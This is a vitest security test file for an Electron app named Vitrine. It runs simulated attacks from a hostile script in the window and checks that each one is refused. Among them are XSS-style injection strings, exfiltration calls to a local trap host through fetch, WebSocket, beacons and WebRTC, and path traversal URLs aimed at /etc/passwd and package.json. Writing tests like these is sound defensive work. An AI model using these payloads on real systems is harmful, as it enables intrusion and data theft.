import { readdir } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { NOTIFICATION_NAMES, REQUEST_NAMES } from '../../src/contract/channels'
import { attack } from '../support/app/attack'
import { endsBy } from '../support/app/processes'
import { findInFiles } from '../support/app/secret-search'
import { startTrap, type Trap } from '../support/app/trap'
import { runVitrine, type RunningVitrine } from '../support/app/vitrine'

/*
 * What a script could try that somehow came to run in the window. Each attack is tried on the running application and has
 * to fail. What its requests may do is in security-requests.test.ts.
 */

const home = 'app://vitrine/'

describe('a hostile script in the window', () => {
  let vitrine: RunningVitrine
  let trap: Trap

  beforeAll(async () => {
    trap = await startTrap()
    vitrine = await runVitrine()
    await vitrine.start()
  })
  afterAll(async () => {
    await vitrine.stop()
    await trap.stop()
  })

  /** Where the page is, and that it is still the one that was marked. */
  const stayed = async (): Promise<unknown> => vitrine.page().evaluate('[location.href, window.marked]')
  const mark = async (): Promise<void> => void (await vitrine.page().evaluate('window.marked = true'))

  it('finds nothing of Node and nothing of Electron', async () => {
    const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'setImmediate', 'ipcRenderer', 'electron', 'webFrame']
    for (const name of names) expect(await attack(vitrine.page(), `typeof globalThis.${name}`)).toBe('worked: undefined')
  })

  it('finds one object of ours, with exactly the names of the contract, and cannot change it', async () => {
    const page = vitrine.page()
    expect(await page.evaluate(() => Object.keys(window.vitrine).sort())).toEqual([...REQUEST_NAMES, 'on'].sort())
    for (const change of ['window.vitrine = {}', 'window.vitrine.connect = () => 1', 'delete window.vitrine', 'window.vitrine.more = 1']) {
      expect(await attack(page, `(() => { 'use strict'; ${change} })()`), change).toMatch(/^refused: TypeError/)
    }
    for (const name of NOTIFICATION_NAMES) expect(await attack(page, `typeof vitrine.on('${name}', () => {})`)).toBe('worked: function')
    for (const name of ['ipc-message', 'vitrine:stateChanged', 'ELECTRON_BROWSER_REQUIRE', '__proto__', 'constructor', '', null, 1]) {
      expect(await attack(page, `vitrine.on(${JSON.stringify(name)}, () => {})`)).toContain('There is no such notification.')
    }
  })

  it('cannot reach the preload script by changing what both use', async () => {
    const worked = await attack(
      vitrine.page(),
      `(async () => {
        const seen = []
        const spied = [[Function.prototype, 'call'], [Function.prototype, 'apply'], [Array.prototype, 'includes'], [Object, 'fromEntries'], [Promise.prototype, 'then']]
        const before = spied.map(([owner, name]) => owner[name])
        spied.forEach(([owner, name], at) => { owner[name] = function (...args) { seen.push(args); return Reflect.apply(before[at], this, args) } })
        try {
          vitrine.on('stateChanged', () => {})()
          await vitrine.getSnapshot({})
        } finally {
          spied.forEach(([owner, name], at) => { owner[name] = before[at] })
        }
        return seen.flat().some((one) => one !== null && typeof one === 'object' && ('sender' in one || 'invoke' in one))
      })()`,
    )
    expect(worked).toBe('worked: false')
  })

  it('runs in a sandbox, apart from our own scripts, in a session that is never written to disk', async () => {
    const seen = await vitrine.app().evaluate(({ BrowserWindow, session }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as Electron.WebContents & { getLastWebPreferences: () => object }
      const isClosedOne = contents.session === session.fromPartition('vitrine-window')
      return { preferences: contents.getLastWebPreferences(), isClosedOne, isPersistent: contents.session.isPersistent(), path: contents.session.storagePath }
    })
    expect(seen).toMatchObject({
      isClosedOne: true,
      isPersistent: false,
      path: null,
      preferences: {
        sandbox: true,
        contextIsolation: true,
        nodeIntegration: false,
        nodeIntegrationInSubFrames: false,
        webviewTag: false,
        webSecurity: true,
        allowRunningInsecureContent: false,
        experimentalFeatures: false,
        enableBlinkFeatures: '',
      },
    })
  })

  it.each([
    ['eval', `eval('1')`],
    ['a function from text', `new Function('return 1')()`],
    ['a timer with text', `setTimeout('1', 0)`],
    ['inner HTML', `document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'`],
    ['HTML put beside', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`],
    ['HTML written', `document.write('<script>window.pwned = 1</script>')`],
    ['HTML parsed', `new DOMParser().parseFromString('<b>x</b>', 'text/html')`],
    ['HTML of a range', `document.createRange().createContextualFragment('<b>x</b>')`],
    ['a frame from text', `document.createElement('iframe').srcdoc = '<script>parent.pwned = 1</script>'`],
    ['text in a script', `document.createElement('script').textContent = 'window.pwned = 1'`],
    ['text appended to a script', `document.createElement('script').append('window.pwned = 1')`],
    ['a script from data', `document.createElement('script').src = 'data:text/javascript,window.pwned=1'`],
    ['a handler from text', `document.createElement('b').setAttribute('onclick', 'window.pwned = 1')`],
    ['an embedded page', `document.createElement('embed').src = 'x.html'`],
    ['an object', `document.createElement('object').data = 'x.html'`],
    ['a worker', `new Worker('data:text/javascript,1')`],
    ['a worker from a blob', `new Worker(URL.createObjectURL(new Blob(['1'])))`],
    ['a service worker', `navigator.serviceWorker.register('/sw.js')`],
    ['a module from data', `import('data:text/javascript,window.pwned=1')`],
    ['a module from a blob', `import(URL.createObjectURL(new Blob(['window.pwned=1'], { type: 'text/javascript' })))`],
    ['a policy of its own', `trustedTypes.createPolicy('own', { createHTML: (text) => text })`],
    ['a default policy', `trustedTypes.createPolicy('default', { createHTML: (text) => text })`],
  ])('gets no further script to run by %s', async (_way, code) => {
    expect(await attack(vitrine.page(), code)).toMatch(/^refused: (EvalError|TypeError)/)
    expect(await vitrine.page().evaluate('window.pwned')).toBeUndefined()
  })

  it.each(['http://TRAP/', 'https://TRAP/', 'app://other/', 'app://vitrine/index.html', 'app://vitrine/..%2fmain.cjs', 'blob:app://vitrine/1', 'mailto:a@example.com'])(
    'is kept from leaving for %s',
    async (template) => {
      const address = template.replace('TRAP', trap.host)
      await mark()
      await vitrine.app().evaluate(({ BrowserWindow }) => {
        const contents = BrowserWindow.getAllWindows()[0]?.webContents
        const asked = new Promise((resolve) => contents?.once('will-frame-navigate', ({ url, defaultPrevented }) => { resolve({ url, prevented: defaultPrevented }) }))
        Object.assign(globalThis, { asked })
      })
      await attack(vitrine.page(), `void (location.href = '${address}')`)
      expect(await vitrine.app().evaluate(() => Reflect.get(globalThis, 'asked') as Promise<unknown>)).toEqual({ url: address, prevented: true })
      expect(await stayed()).toEqual([home, true])
    },
  )

  it.each(['file:///etc/hostname', 'data:text/html,hello', 'chrome://gpu/', 'devtools://devtools/bundled/inspector.html', 'view-source:app://vitrine/', 'javascript:window.pwned=1'])(
    'is kept by Chromium itself from leaving for %s',
    async (address) => {
      await mark()
      const complaint = vitrine.page().waitForEvent('console', (message) => /^(Not allowed to|Refused to|Running the)/.test(message.text()))
      await attack(vitrine.page(), `void (location.href = '${address}')`)
      await complaint
      expect(await stayed()).toEqual([home, true])
      expect(await vitrine.page().evaluate('window.pwned')).toBeUndefined()
    },
  )

  it('is brought back from an empty page, the one place that it can leave for unasked', async () => {
    await mark()
    const left = vitrine.page().waitForURL('about:blank', { waitUntil: 'commit' })
    const back = vitrine.page().waitForURL(home)
    await vitrine.page().evaluate(`setTimeout(() => { location.href = 'about:blank' })`)
    await Promise.all([left, back])
    await vitrine.page().getByRole('heading', { level: 1 }).waitFor()
    expect(await stayed()).toEqual([home, undefined])
  })

  it('opens no window', async () => {
    for (const address of ['', 'about:blank', trap.url, 'file:///etc/hostname', 'data:text/html,x', home, 'app://other/', 'javascript:1']) {
      expect(await attack(vitrine.page(), `window.open('${address}')`), address).toBe('worked: null')
    }
    await attack(vitrine.page(), `Object.assign(document.createElement('a'), { href: '${trap.url}', target: '_blank' }).click()`)
    expect(await vitrine.app().evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1)
  })

  it('opens no frame but an empty one, which has nothing of ours, and no guest page', async () => {
    const page = vitrine.page()
    const framed = (address: string, sign: string): string =>
      `new Promise((done) => { const frame = Object.assign(document.createElement('iframe'), { src: '${address}' }); ${sign}; document.body.append(frame) })`
    const refused = `document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective), { once: true })`
    for (const address of [trap.url, 'data:text/html,x', home, 'app://vitrine/index.html', 'app://other/']) {
      expect(await attack(page, framed(address, refused)), address).toBe('worked: frame-src')
    }
    // Chromium refuses files before it comes to the policy, and says so on the console alone.
    const complaint = page.waitForEvent('console', (message) => message.text().startsWith('Not allowed to load local resource'))
    await attack(page, framed('file:///etc/hostname', 'done()'))
    await complaint
    const looked = `frame.onload = () => done(typeof frame.contentWindow.vitrine)`
    expect(await attack(page, framed('about:blank', looked))).toBe('worked: undefined')
    for (const frame of page.frames().slice(1)) expect(frame.url()).toMatch(/^(chrome-error:\/\/chromewebdata\/|about:blank|)$/)
    expect(await attack(page, `(() => { const guest = document.createElement('webview'); guest.src = '${trap.url}'; document.body.append(guest); return guest.constructor.name })()`)).toBe('worked: HTMLElement')
    await page.evaluate(`document.querySelectorAll('iframe, webview').forEach((one) => one.remove())`)
    expect(await vitrine.app().evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1)
  })

  it('sends nothing anywhere', async () => {
    const page = vitrine.page()
    const settled = (make: string): string =>
      `new Promise((done, fail) => { const one = ${make}; one.onload = one.onopen = one.oncanplay = done; one.onerror = () => fail(new Error('blocked')) })`
    const linked = (rel: string): string => `(() => { const one = Object.assign(document.createElement('link'), { rel: '${rel}', href: '${trap.url}/${rel}', as: 'script' }); document.head.append(one); return one })()`
    for (const way of [
      `fetch('${trap.url}/fetch')`,
      `fetch('${trap.url}/fetch', { mode: 'no-cors' })`,
      `fetch('file:///etc/hostname')`,
      settled(`(() => { const one = new XMLHttpRequest(); one.open('GET', '${trap.url}/xhr'); one.send(); return one })()`),
      settled(`new WebSocket('ws://${trap.host}/socket')`),
      settled(`new EventSource('${trap.url}/events')`),
      settled(`Object.assign(new Image(), { src: '${trap.url}/image' })`),
      settled(`Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' })`),
      settled(`Object.assign(new Image(), { src: 'file:///usr/share/pixmaps/debian-logo.png' })`),
      settled(`new Audio('${trap.url}/audio')`),
      settled(linked('stylesheet')),
      `new FontFace('Stolen', 'url(${trap.url}/font)').load()`,
      `import('${trap.url}/module.js')`,
      `document.createElement('script').src = '${trap.url}/script.js'`,
    ]) {
      expect(await attack(page, way), way).toMatch(/^refused/)
    }
    // Ways that do not say how they ended.
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) await attack(page, linked(rel))
    await attack(page, `navigator.sendBeacon('${trap.url}/beacon', 'x')`)
    await attack(page, `Object.assign(document.createElement('a'), { href: '#', ping: '${trap.url}/ping' }).click()`)
    await attack(page, `(() => { const form = Object.assign(document.createElement('form'), { action: '${trap.url}/form', method: 'post' }); document.body.append(form); form.submit(); form.remove() })()`)
    await attack(page, `void (document.body.style.backgroundImage = 'url(${trap.url}/background)')`)
    const gathered = await attack(
      page,
      `(async () => {
        const servers = ['stun:${trap.host}', 'turn:${trap.host}?transport=udp', 'turn:${trap.host}?transport=tcp']
        const peer = new RTCPeerConnection({ iceServers: [{ urls: servers, username: 'a', credential: 'b' }] })
        const over = new Promise((done) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done() })
        const found = []
        peer.onicecandidate = ({ candidate }) => candidate?.candidate && found.push(candidate.candidate)
        peer.createDataChannel('leak')
        await peer.setLocalDescription()
        await over
        return found.length
      })()`,
    )
    expect(gathered).toBe('worked: 0')
    expect(trap.hits).toEqual([])
    await fetch(trap.url)
    expect(trap.hits).toEqual(['GET / HTTP/1.1'])
  })

  it('is granted no permission and no device', async () => {
    const page = vitrine.page()
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'clipboard-write', 'midi', 'persistent-storage', 'screen-wake-lock', 'display-capture', 'background-sync']
    for (const name of names) expect(await attack(page, `navigator.permissions.query({ name: '${name}' }).then(({ state }) => state)`), name).toBe('worked: denied')

    expect(await attack(page, 'Notification.requestPermission()')).toBe('worked: denied')
    expect(await attack(page, 'navigator.storage.persist()')).toBe('worked: false')
    for (const way of [
      `new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))`,
      `navigator.mediaDevices.getUserMedia({ video: true })`,
      `navigator.mediaDevices.getUserMedia({ audio: true })`,
      `navigator.mediaDevices.getDisplayMedia()`,
      `navigator.clipboard.readText()`,
      `navigator.clipboard.read()`,
      `navigator.clipboard.writeText('x')`,
      `navigator.usb.requestDevice({ filters: [] })`,
      `navigator.hid.requestDevice({ filters: [] })`,
      `navigator.serial.requestPort()`,
      `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
      `navigator.requestMIDIAccess({ sysex: true })`,
      `navigator.wakeLock.request('screen')`,
      `document.documentElement.requestFullscreen()`,
      `queryLocalFonts()`,
      `getScreenDetails()`,
    ]) {
      expect(await attack(page, way), way).toMatch(/^refused/)
    }
  })

  it('downloads nothing', async () => {
    await vitrine.app().evaluate(({ session }) => {
      const stopped = new Promise((resolve) => session.fromPartition('vitrine-window').once('will-download', (event) => { resolve(event.defaultPrevented) }))
      Object.assign(globalThis, { stopped })
    })
    const click = (address: string): string => `Object.assign(document.createElement('a'), { href: ${address}, download: 'stolen.html' }).click()`
    await attack(vitrine.page(), click(`'data:text/html,x'`))
    await attack(vitrine.page(), click(`URL.createObjectURL(new Blob(['x']))`))
    await attack(vitrine.page(), click(`'${home}'`))
    expect(await vitrine.app().evaluate(() => Reflect.get(globalThis, 'stopped') as Promise<unknown>)).toBe(true)
    const files = await readdir(dirname(vitrine.desktop.home), { recursive: true })
    expect(files.filter((name) => name.includes('stolen'))).toEqual([])
  })
})

describe('the session of the window', () => {
  let vitrine: RunningVitrine
  let trap: Trap

  beforeAll(async () => {
    trap = await startTrap()
    vitrine = await runVitrine()
    await vitrine.start()
  })
  afterAll(async () => {
    await vitrine.stop()
    await trap.stop()
  })

  const fetched = (address: string): Promise<{ status: number; headers: Record<string, string>; text: string } | string> =>
    vitrine.app().evaluate(async ({ session }, url) => {
      try {
        const answer = await session.fromPartition('vitrine-window').fetch(url)
        const headers = Object.fromEntries(answer.headers as unknown as Iterable<[string, string]>)
        return { status: answer.status, headers, text: await answer.text() }
      } catch {
        return 'refused'
      }
    }, address)

  it('serves the page with its policy in the header and in the page', async () => {
    const answer = await fetched(home)
    expect(answer).toMatchObject({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8', 'x-content-type-options': 'nosniff' } })
    const { headers, text } = answer as { headers: Record<string, string>; text: string }
    const directives = headers['content-security-policy']?.split('; ') ?? []
    for (const one of ["default-src 'none'", "script-src 'self'", "connect-src 'none'", "require-trusted-types-for 'script'", "frame-ancestors 'none'"]) {
      expect(directives).toContain(one)
    }
    for (const one of directives) if (!one.startsWith('frame-ancestors')) expect(text).toContain(one)
    expect(headers['permissions-policy']).toContain('usb=()')
  })

  it.each([
    'app://vitrine/../main.cjs',
    'app://vitrine/../../package.json',
    'app://vitrine/..%2f..%2fpackage.json',
    'app://vitrine/%2e%2e%2fpreload.cjs',
    'app://vitrine/%2e%2e/%2e%2e/package.json',
    'app://vitrine/..%5c..%5cpackage.json',
    'app://vitrine/index.html%00.js',
    'app://vitrine/assets',
    'app://vitrine//etc/passwd',
    'app://vitrine/%2fetc%2fpasswd',
    'app://other/index.html',
    'app://vitrine.example/index.html',
    'file:///etc/hostname',
  ])('does not serve %s', async (address) => {
    const answer = await fetched(address)
    expect(typeof answer === 'string' ? answer : answer.text).toMatch(/^(refused|Not found)$/)
  })

  it('reaches nothing on the network, whoever asks', async () => {
    expect(await fetched(`${trap.url}/fetch`)).toBe('refused')
    expect(await fetched('data:text/html,x')).toBe('refused')
    expect(trap.hits).toEqual([])
  })

  it('does not follow a redirect, not even in a window of another session', async () => {
    await vitrine.app().evaluate(async ({ BrowserWindow }, url) => {
      const other = new BrowserWindow({ show: false })
      await other.loadURL(url).catch(() => undefined)
      other.destroy()
    }, `${trap.url}/redirect`)
    expect(trap.hits).toEqual(['GET /redirect HTTP/1.1'])
  })

  it('forgets with the process what the page stored, and writes none of it', async () => {
    const canary = 'stored-by-the-page-5d2c'
    const stored = await attack(
      vitrine.page(),
      `(async () => {
        localStorage.setItem('key', '${canary}')
        sessionStorage.setItem('key', '${canary}')
        document.cookie = 'key=${canary}; max-age=9999'
        const request = indexedDB.open('base', 1)
        await new Promise((done, fail) => { request.onupgradeneeded = () => request.result.createObjectStore('${canary}'); request.onsuccess = done; request.onerror = fail })
        return localStorage.getItem('key')
      })()`,
    )
    expect(stored).toBe(`worked: ${canary}`)
    await endsBy(vitrine.app(), () => vitrine.tray.click('Quit'))
    const { home } = vitrine.desktop
    expect(await findInFiles(dirname(home), [{ name: 'what the page stored', text: canary }])).toEqual([])
    // What Chromium keeps there belongs to its default session, which no page of ours uses.
    const names = await readdir(join(home, '.config', 'Vitrine'), { recursive: true })
    expect(names.filter((name) => /app_+vitrine|^Partitions/.test(name))).toEqual([])
    expect(names).toEqual(expect.arrayContaining(['journal.sqlite', 'settings.json']))
  })
})
